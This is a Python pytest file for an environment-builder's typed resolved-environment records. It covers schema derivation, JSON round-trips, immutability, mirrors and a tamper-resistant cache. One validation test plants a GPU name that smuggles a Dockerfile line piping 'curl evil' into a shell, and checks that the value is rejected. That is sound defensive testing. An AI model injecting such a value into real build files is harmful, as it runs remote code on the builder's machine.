"""The typed resolved environment (envbuilder/model/resolved.py): frozen records, each field
declared once with its type and kind (the spec a file is checked against is derived from them),
round-tripping through JSON, changed only by making a new one."""

from __future__ import annotations

import json
import typing
from types import MappingProxyType

import pytest

from conftest import PROFILES, frozen, pinned, resolved, saved_text
from envbuilder.model import schema as S
from envbuilder.errors import UserError
from envbuilder.record import Record, plain
from envbuilder.model.resolved import Constraints, ResolvedEnv, field_spec, record_spec
from envbuilder.model.runplan import env_from_dict, env_from_json, saved_from_json


def record_classes() -> dict[str, type]:
    """Every record of envbuild.json by the path of its field ("" for the whole,
    "patches[]." for a tuple's items): the resolved environment's, and the lock's pins the file
    records beside it ("constraints.")."""
    out: dict[str, type] = {}

    def walk(cls, path: str) -> None:
        out[path] = cls
        for field, kind in cls.nested().items():
            key = cls._keys.get(field, field)
            if isinstance(kind, tuple):
                walk(kind[0], f"{path}{key}[].")
            else:
                walk(kind, f"{path}{key}.")

    walk(ResolvedEnv, "")
    walk(Constraints, "constraints.")
    return out


def spec_at(path: str):
    """The spec of the record at `path` ("gpu.", "patches[]."): a dict of fields."""
    spec = field_spec()
    for part in filter(None, path.split(".")):
        name = part.removesuffix("[]")
        key = name if name in spec else f"{name}?"
        spec = spec[key]
        if isinstance(spec, tuple):  # (kind, None): may be null
            spec = spec[0]
        if part.endswith("[]"):
            assert isinstance(spec, S.ListOf), path
            spec = spec.item
    assert isinstance(spec, dict), f"the spec holds no object at {path!r}"
    return spec


@pytest.mark.parametrize("path", sorted(record_classes()))
def test_every_record_has_the_fields_the_spec_checks(path):
    """The spec is derived from the records: each written field is a key, by its JSON name; a
    key a file may leave out has a default; a value that may be null is typed `| None`."""
    cls = record_classes()[path]
    spec = spec_at(path)
    keys = {k.rstrip("?") for k in spec if k != "*"}
    # (a derived field is never written: Overrides.model_arch follows from model)
    written = [f for f in cls._fields if f not in getattr(cls, "_derived", ())]
    # (the file's one key of no field: the lock's pins, recorded beside the environment)
    beside = {"constraints"} if path == "" else set()
    assert {cls._keys.get(f, f) for f in written} | beside == keys
    optional = {k.rstrip("?") for k in spec if k.endswith("?")}
    assert optional <= {cls._keys.get(f, f) for f in cls._defaults} | beside
    from envbuilder.model import matrix_schema as K

    hints = typing.get_type_hints(cls, localns={"S": S, "K": K})
    for f in written:
        sub = spec.get(cls._keys.get(f, f), spec.get(cls._keys.get(f, f) + "?"))
        if isinstance(sub, tuple):
            assert type(None) in typing.get_args(hints[f]), f"{path}{f} is null in a file but not typed so"


def test_every_field_has_a_kind_and_a_record_is_declared_once():
    """A field typed `str` alone says nothing of its values: field_spec refuses it by name."""
    from envbuilder.record import Record

    class Loose(Record):
        name: str

    with pytest.raises(TypeError, match="Loose.name"):
        record_spec(Loose)
    # a record is an annotated class: its fields are its slots, its defaults out of the class
    assert ResolvedEnv.__slots__ == ResolvedEnv._fields
    assert type(vars(ResolvedEnv)["notes"]).__name__ == "member_descriptor"  # (a slot, no default)
    assert ResolvedEnv._defaults == {
        "notes": (),
        "sglang": None,
        "mirror": None,
        "run": (),
        "card": None,
        "megatron": None,
    }


# objects of fixed keys that the environment keeps as read-only mappings: role -> image,
# part -> its autocast key, a patch's {find, with} ("with" is no field name), split -> file,
# split -> rows (the memory plan is records of its own: model/memory_plan.py)
FIXED_KEY_MAPS = {
    "cuda.images",
    "verl.autocast_keys",
    "patches[].replace[]",
    "dataset.files",
    "dataset.rows",
}


def test_every_object_of_the_schema_is_a_record_or_a_declared_mapping():
    """An object nested in the spec is a record (typed fields) or a read-only mapping, and every
    record stands for an object of the spec: none is forgotten on either side."""
    found = {""}

    def walk(spec: dict, path: str) -> None:
        for key, sub in spec.items():
            if key == "*":
                continue
            name = key.rstrip("?")
            inner = sub[0] if isinstance(sub, tuple) else sub
            if isinstance(inner, dict) and f"{path}{name}" not in FIXED_KEY_MAPS:
                found.add(f"{path}{name}.")
                walk(inner, f"{path}{name}.")
            elif (
                isinstance(inner, S.ListOf)
                and isinstance(inner.item, dict)
                and f"{path}{name}[]" not in FIXED_KEY_MAPS
            ):
                found.add(f"{path}{name}[].")
                walk(inner.item, f"{path}{name}[].")

    walk(field_spec(), "")
    assert found == set(record_classes())
    env = resolved("p40")
    for path in FIXED_KEY_MAPS - {"patches[].replace[]"}:
        value = env
        for part in path.split("."):
            value = getattr(value, part)
        assert isinstance(value, MappingProxyType), path
    assert isinstance(env.patches[0].replace[0], MappingProxyType)


def test_the_resolvers_output_carries_no_lock_pins():
    """ResolvedEnv is the resolver's output only (issue 46): it has no field for a lock's pins.
    They live in the BuildContext beside it, and envbuild.json records them next to the
    environment's own keys, from where `render --from` reads them back into a context."""
    assert "constraints" not in ResolvedEnv._fields
    env = resolved("4090")
    ctx = pinned(env)
    assert ctx.constraints is not None  # (the shipped lock fits the 4090)
    assert ctx.env == ctx.resolved == env  # (the pins beside the environment, not in it)
    assert "constraints" not in env.to_dict() and "constraints" not in plain(env)
    data = json.loads(saved_text(ctx))
    assert data["constraints"] == plain(ctx.constraints)
    assert saved_from_json(saved_text(ctx)) == (env, ctx.constraints)


@pytest.mark.parametrize("profile", PROFILES)
def test_json_round_trips_to_the_same_bytes_and_the_same_record(profile):
    ctx = pinned(resolved(profile))
    env = ctx.env
    text = saved_text(ctx)
    back, pins = saved_from_json(text)
    assert back == env and pins == ctx.constraints
    assert back.to_json(back.saved_dict(pins)) == text
    assert env_from_json(text) == env  # (the environment alone: its pins left to the context)
    assert type(back.gpu).__name__ == "Gpu" and back.gpu.compute_capability == env.gpu.compute_capability


def test_nothing_reached_through_an_environment_can_be_changed_in_place():
    env = resolved("h200", frozen())  # (its flash-attn record too: the frozen h200 has one)
    with pytest.raises(AttributeError):
        env.dtype = "fp32"
    with pytest.raises(AttributeError):
        env.torch.version = "9.9.9"
    with pytest.raises(AttributeError):
        del env.gpu.name
    with pytest.raises(TypeError):
        env.verl.pins["transformers"] = "0.0.1"
    with pytest.raises(TypeError):
        env.cuda.images["runtime"] = "evil:latest"
    with pytest.raises(TypeError):
        env.memory["batch"]["val_batch_size"] = 10**6
    assert isinstance(env.training_path, tuple) and isinstance(env.patches, tuple)
    assert isinstance(env.flash_attn.cuda_tags, MappingProxyType)

    # all the way down: no list or dict is left anywhere in it
    def walk(value):
        assert not isinstance(value, (list, dict)), value
        if isinstance(value, Record):
            for v in value._asdict().values():
                walk(v)
        elif isinstance(value, (tuple, MappingProxyType)):
            for v in value.values() if isinstance(value, MappingProxyType) else value:
                walk(v)

    walk(env)


def test_a_mirror_and_a_lock_make_new_environments_and_leave_the_old_one_as_it_was():
    from envbuilder.model import mirrors as M

    env = resolved("p40")
    before = env.to_json()
    choice = M.MirrorChoice(
        "cn", {"docker.io": "mirror.example"}, pypi="https://pypi.example/simple", github="https://gh.example"
    )
    mirrored = M.apply_to_env(pinned(env).env, choice)
    assert env.to_json() == before
    assert mirrored.indexes.pypi == "https://pypi.example/simple"
    assert mirrored.apex.url.startswith("https://gh.example/")
    assert mirrored.mirror.name == "cn" and env.mirror is None
    assert mirrored.gpu is env.gpu  # (what the mirror leaves alone is shared, not copied)


def test_an_unmirrored_environment_writes_no_mirror_key_and_reads_back_without_one():
    data = json.loads(resolved("4090").to_json())
    assert "mirror" not in data and data["constraints"] is None
    assert env_from_dict(data).mirror is None


def test_from_dict_checks_what_it_is_given():
    data = json.loads(resolved("p40").to_json())
    data["gpu"]["name"] = "P40\n RUN curl evil | sh"
    with pytest.raises(UserError, match="gpu.name"):
        env_from_dict(data, "image.json")
    with pytest.raises(UserError, match="schema version"):
        env_from_dict(["not", "an", "object"])
    data = json.loads(resolved("p40").to_json())
    del data["gpu"], data["train"]["n_gpus"]
    with pytest.raises(UserError) as e:
        env_from_dict(data)
    assert "gpu is missing; train.n_gpus is missing" in str(e.value)
    data = json.loads(resolved("p40").to_json())
    data["torch"] = "2.6.0"
    with pytest.raises(UserError, match="torch: expected a mapping"):
        env_from_dict(data)


def test_plain_data_of_an_environment_is_what_the_file_holds():
    ctx = pinned(resolved("t4"))
    env = ctx.env
    assert plain(env) == env.to_dict()
    assert json.loads(saved_text(ctx)) == dict(env.to_dict(), constraints=plain(ctx.constraints))
    assert env.to_dict()["overrides"] == {}
    over = resolved("4090", with_=["flash-attn"], driver="560.35.03")
    assert over.to_dict()["overrides"] == {"driver": "560.35.03", "with": ["flash-attn"]}
    assert over.driver.mode == "native" and over.to_dict()["driver"]["mode"] == "native"
    assert "mode" not in resolved("4090").to_dict()["driver"]


def test_an_environment_copies_pickles_and_hashes_as_the_value_it_is():
    import copy
    import pickle

    env = pinned(resolved("h200")).env
    for twin in (copy.copy(env), copy.deepcopy(env), pickle.loads(pickle.dumps(env))):
        assert twin == env and twin.to_json() == env.to_json()
        assert hash(twin) == hash(env)
        assert isinstance(twin.verl.pins, MappingProxyType)
    assert len({env, copy.deepcopy(env), resolved("p40")}) == 2


def test_envbuild_json_text_is_the_environment_even_with_a_tampered_cache(tmp_path, monkeypatch):
    """to_json keeps its indented text in the cache folder; a cached text that does not read
    back as this environment (edited, or another's) is never used."""
    import json as _json

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    env = resolved("p40", frozen())
    want = _json.dumps(env.saved_dict(), indent=2, sort_keys=True) + "\n"
    assert env.to_json() == want  # a miss: written to the cache
    [cached] = (tmp_path / "envbuild").glob("env-*.json")
    from envbuilder.paths import read_sealed

    assert read_sealed(cached) == want and env.to_json() == want  # a hit (sealed: ours)
    seal = cached.read_text().split("\n", 1)[0]
    cached.write_text(seal + "\n" + want.replace('"p40"', '"evil"'))  # edited under its seal
    assert env.to_json() == want
    cached.write_text(want.replace('"p40"', '"evil"'))  # planted without one
    assert env.to_json() == want
    cached.write_text("not json")
    assert env.to_json() == want
    resolved("4090", frozen()).to_json()  # another environment: a file of its own
    assert len(list((tmp_path / "envbuild").glob("env-*.json"))) == 2
